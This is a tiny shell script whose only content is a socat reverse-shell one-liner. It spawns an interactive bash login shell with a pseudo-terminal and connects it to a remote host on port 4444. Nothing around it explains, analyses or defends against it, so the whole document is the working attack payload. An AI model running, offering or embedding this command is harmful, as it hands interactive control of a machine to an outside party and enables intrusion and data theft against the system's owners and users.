#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.4:4444
